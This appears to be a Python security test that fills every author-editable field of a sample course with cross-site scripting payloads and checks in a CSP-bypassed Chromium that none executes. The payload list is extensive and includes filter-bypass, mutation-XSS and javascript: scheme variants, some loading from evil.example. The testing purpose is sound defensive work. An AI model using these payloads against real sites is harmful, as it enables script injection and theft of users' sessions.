"""Scripts in every text an author can write: none may run, even in a browser that no policy restrains.

A course holds one payload in each of its texts. Its pages are built by the house's own code and opened in Chromium
from memory, without the Content-Security-Policy that forbids scripts on the site. What runs calls home.
"""

from __future__ import annotations

import re
from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from dataclasses import dataclass, field
from datetime import UTC, date, datetime
from http import HTTPStatus
from itertools import product
from unittest import mock

from fastapi import FastAPI
from fastapi.testclient import TestClient
from playwright.sync_api import Browser
from proofs import mutations
from proofs.mutations import ROOT
from proofs.windows import AT_ONCE, OURS, Shown, side_by_side

from app.content import html, reader
from app.content.course import Course, Reading
from app.content.folder import Held
from app.library.provider import Provider
from app.web.preview import OnView, router

TODAY = date(2026, 11, 20)
NOW = datetime(2026, 11, 20, 12, tzinfo=UTC)
TOGETHER = 12  # payloads in one text: each is read by itself as long as nothing is let through
EVERY_CONSTRUCT = ROOT / "tests" / "courses" / "every-construct"
RUN = "parent.ran(0)"

_TAGS = "img svg video audio body input details iframe object embed select textarea button marquee x a math".split()  # noqa: SIM905
_EVENTS = "onerror onload onclick onfocus onmouseover ontoggle onstart onbegin".split()  # noqa: SIM905
_FORMS = (
    "<{tag} src=x {event}={run}>",
    '<{tag}/src="x"/{event}="{run}"/>',
    "<{upper}\tSRC='x'\t{event}='{run}' autofocus tabindex=1>x</{upper}>",
    "<{tag} x=`>` {event}\n=\n{run} open>",
)
_SCHEMES = (
    "javascript:{run}",
    "JaVaScRiPt:{run}",
    "java&#115;cript:{run}",
    "&#x6A;avascript:{run}",
    "javascript&colon;{run}",
    "java\tscript:{run}",
    "\x01javascript:{run}",
    "%6Aavascript:{run}",
    "vbscript:{run}",
    "data:text/html,<script>{run}</script>",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQucmFuKDApPC9zY3JpcHQ+",
)
_LINKS = (
    "[x]({url})",
    "[x](<{url}>)",
    "![x]({url})",
    "<{url}>",
    "[x][y]\n\n[y]: {url}",
    '<a href="{url}">x</a>',
    "<form action='{url}'><input type=submit></form>",
    "<iframe src='{url}'></iframe>",
    "@[video]({url})",
)
_WHOLE = (
    "<script>{run}</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>{run}</script>",
    "<script\x0c>{run}</script>",
    "<script/x>{run}</script >",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:{run}><text y=9>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={run}/>#x'/></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>{run}</script>'></iframe></foreignObject></svg>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<math><mtext><table><mglyph><style><img src=x onerror={run}>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<template><script>{run}</script></template>",
    "<style>@import '//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<base href=//evil.example/>",
    "<p style='background:url(//evil.example/x)'>x</p>",
    "<img srcset='//evil.example/x 1x' src=//evil.example/y>",
    "<!-- ><script>{run}</script>",  # one that closes is a note to oneself, and shown to nobody
    "<!-- --!><img src=x onerror={run}>",
    "<![CDATA[<script>{run}</script>]]>",
    "<?xml version='1.0'?><script>{run}</script>",
    "</title><script>{run}</script>",
    "</textarea><script>{run}</script>",
    "</style></noscript></template></select><script>{run}</script>",
    "</p></section></div></main><script>{run}</script>",
    '"><script>{run}</script>',
    "'><img src=x onerror={run}>",
    '" onmouseover={run} x="',
    "' autofocus onfocus={run} x='",
    "`` onclick={run} ``",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "&amp;lt;script&amp;gt;{run}",
    "\\<script\\>{run}\\</script\\>",
    "`<script>{run}</script>`",
    "<b>```</b><script>{run}</script>",
    '![" onerror="{run}](media/photo.png)',
    '![x](media/photo.png "\\" onerror={run} \\"")',
    '[x](https://www.example.org/"onclick="{run})',
    'https://www.example.org/"onmouseover="{run}',
    '[@nasw-code, "><script>{run}</script>]',
    "___(<script>{run}</script>)___",
    "[^1]<script>{run}</script>",
    "^[<img src=x onerror={run}>]",
    "~~<img src=x onerror={run}>~~",
    "**<svg onload={run}>**",
    "{{{{ {run} }}}} {{% raw %}}",
    "${{{run}}}",
    "\u202e<script>{run}</script>",
    "\ufeff<script>{run}</script>",
    "＜script＞{run}＜/script＞",
    "<script>{run}//\u2028</script>",
    "<x is=y contenteditable onblur={run} onfocus={run} autofocus>x</x>",
    "{{onclick={run}}}",
    "{{decorative onerror={run}}}",
)  # fmt: skip


def payloads() -> list[str]:
    """Give every payload; each calls home when it runs."""
    tags = (
        form.format(tag=tag, upper=tag.upper(), event=event, run=RUN)
        for form, tag, event in product(_FORMS, _TAGS, _EVENTS)
    )
    links = (link.format(url=scheme.format(run=RUN)) for link, scheme in product(_LINKS, _SCHEMES))
    whole = [text.format(run=RUN) for text in _WHOLE]
    some_tags = [text for number, text in enumerate(tags) if number % 4 != 3]
    return list(dict.fromkeys([*whole, *links, *some_tags]))


# --- a course with a payload in every text -----------------------------------------------------------------------

_TEXT_SETTING = re.compile(r"\s*(?:- )?(?:title|summary|audience|bio|disclosure|nasw-code|nasw-safety|old-reference): ")
_QUOTED_SETTING = re.compile(r"(\s*(?:- )?(?:name|credentials): )(.*)")
_NO_TEXT = re.compile(
    r"(?:Points|Objective|Credit|Shuffle|Private|Words|Capitals|Id|Waive): |:::\s*$|\|?[-| :]+$|_{3,}$|\[\^|```"
)
_PICTURE = re.compile(r'!\[(?P<alt>[^\]]+)\]\((?P<file>[^ )]+)(?: "(?P<caption>[^"]*)")?\)')
_MEDIUM = re.compile(r'@\[(?P<kind>\w+)\]\((?P<file>[^ )]+)(?: "(?P<title>[^"]*)")?\)')


def filled(payload: str) -> tuple[dict[str, bytes], int]:
    """Give a course that uses every construct, with a payload in each of its texts, and how many texts that are."""
    files = dict(mutations.files_of(EVERY_CONSTRUCT))
    count = 0
    for name in [name for name in files if name.endswith(".md")]:
        lines = []
        inside = files[name].startswith(b"---")
        for number, line in enumerate(files[name].decode().split("\n")):
            inside = inside and not (number and line == "---")
            changed = _setting(line, payload) if inside else _line(line, payload)
            count += changed != line
            lines.append(changed)
        files[name] = "\n".join(lines).encode()
    return files, count


def _setting(line: str, payload: str) -> str:
    single = " ".join(payload.split("\n"))
    if quoted := _QUOTED_SETTING.fullmatch(line):
        seen = "".join(filter(str.isprintable, quoted[2] + single))  # YAML itself refuses the others
        return f"{quoted[1]}'{seen.replace(chr(39), chr(39) * 2)}'"
    text = _TEXT_SETTING.match(line) or re.match(r"  - (?!name)", line)
    return f"{line} {single}" if text else line


def _line(line: str, payload: str) -> str:
    """Put a payload into a line where its author may write what she likes."""
    single = " ".join(payload.split())
    if not line.strip() or line == "---" or _NO_TEXT.match(line.strip()):
        return line
    for changed in (_in_medium(line, single), _in_answer(line, single)):
        if changed:
            return changed
    plain = re.match(r"[A-Z“*\[]", line) and not re.match(r"[A-Z]\w+: ", line)
    return f"{line} {payload if plain else single}"


def _in_medium(line: str, payload: str) -> str:
    """Put a payload into the description, the caption and the title of what is shown."""
    if picture := _PICTURE.search(line):
        caption = payload.replace('"', "&quot;")
        shown = f'![{picture["alt"]} {payload}]({picture["file"]} "{caption}") {payload}'
        return line.replace(picture[0], shown)
    if medium := _MEDIUM.fullmatch(line):
        return f'@[{medium["kind"]}]({medium["file"]} "{payload.replace(chr(34), chr(39))}")'
    return ""


def _in_answer(line: str, payload: str) -> str:
    """Put a payload where what follows it still has to be read: into draws, gaps, pairs, tables, accepted answers."""
    if "(draw" in line:
        return line.replace("(draw", f"{payload} (draw")
    if ")___" in line:  # a gap holds no brackets within brackets
        inside = payload.replace("(", "&#40;").replace(")", "&#41;").replace("_", "&#95;")
        return f"{line.replace(')___', f' | {inside})___')} {payload}"
    if re.match(r"- \S.* -> ", line):
        return f"{line.replace(' -> ', f' {payload} -> ')} {payload}"
    if line.startswith("Answer:"):
        return line if re.search(r"\d", line) else f"{line} | {payload}"
    return f"{line.rstrip().removesuffix('|')} {payload} |" if line.rstrip().endswith("|") else ""


def read(files: dict[str, bytes]) -> Course | None:
    """Read a course however many problems it has, so that even its HTML can be looked at."""
    with mock.patch.object(reader._Reader, "problems", return_value=[]):
        return reader.read(mutations.held(files), today=TODAY).course


def pages_of(course: Course, shelf: Held) -> Iterator[str]:
    """Build every page on which the course's words stand, for learners and for its author."""
    app = FastAPI()
    reading = Reading(course, ())
    app.include_router(
        router(lambda: OnView(at="", shelf=shelf, reading=reading, course=course, provider=Provider(), now=NOW))
    )
    code = f"/page/courses/{course.code}"
    paths = ["/", "/page/", code, f"{code}/exam", "/page/attempts/1", "/page/attempts/1/result", "/page/attempts/1/key"]
    paths += [f"{code}/modules/{module.slug}" for module in course.modules] + ["/page/evaluation", "/page/certificate"]
    with TestClient(app, base_url="http://127.0.0.1", raise_server_exceptions=True) as client:
        for path in paths:
            answer = client.get(path)
            if answer.status_code != HTTPStatus.OK:
                message = f"{path}: {answer.status_code}"
                raise AssertionError(message)
            yield OURS.sub("", answer.text)


# --- and a browser to run it -------------------------------------------------------------------------------------


@dataclass(slots=True)
class Outcome:
    """What came of opening pages full of payloads."""

    payloads: int = 0
    together: int = 1  # how many payloads stood in one text
    texts: int = 0  # filled with each payload
    pages: int = 0
    unread: list[str] = field(default_factory=list)  # payloads that left no course to look at
    shown: int = 0  # pages on which something of the payload could be read
    ran: list[str] = field(default_factory=list)

    @property
    def failures(self) -> int:
        """How often something ran, or could not be tried."""
        return len(self.ran) + len(self.unread)

    def told(self) -> dict[str, object]:
        """Give what evidence says."""
        return {
            "payloads": self.payloads,
            "texts_filled_with_each": self.texts,
            "side_by_side": self.together,
            "pages": self.pages,
            "pages_that_show_one": self.shown,
            "ran": self.ran[:20],
            "ran_in_all": len(self.ran),
            "not_tried": self.unread,
        }


def prove(browser: Browser, chosen: Sequence[str], *, together: int = TOGETHER) -> Outcome:
    """Open every page of courses with each payload in every text, a few of them side by side."""
    outcome = Outcome(payloads=len(chosen), together=together)
    texts = [" · ".join(chosen[first : first + together]) for first in range(0, len(chosen), together)]
    context = browser.new_context(bypass_csp=True)
    page = context.new_page()
    try:
        waiting: list[Shown] = []
        for text in texts:
            waiting += map(Shown, _pages_with(text, outcome))
            while len(waiting) >= AT_ONCE:
                outcome.ran += side_by_side(page, waiting[:AT_ONCE])
                waiting = waiting[AT_ONCE:]
        outcome.ran += side_by_side(page, waiting)
    finally:
        context.close()
    return outcome


def _pages_with(payload: str, outcome: Outcome) -> list[str]:
    files, outcome.texts = filled(payload)
    course = read(files)
    if course is None:
        outcome.unread.append(payload)
        return []
    pages = list(pages_of(course, mutations.held(files)))
    outcome.pages += len(pages)
    outcome.shown += sum("parent.ran" in each or "evil.example" in each for each in pages)
    return pages


@contextmanager
def unguarded() -> Iterator[None]:
    """Take the protection away: nothing is cleaned, and tags are written as they were typed."""
    with mock.patch.object(html, "clean", lambda text: text), mock.patch.object(html, "escape", lambda text: text):
        yield
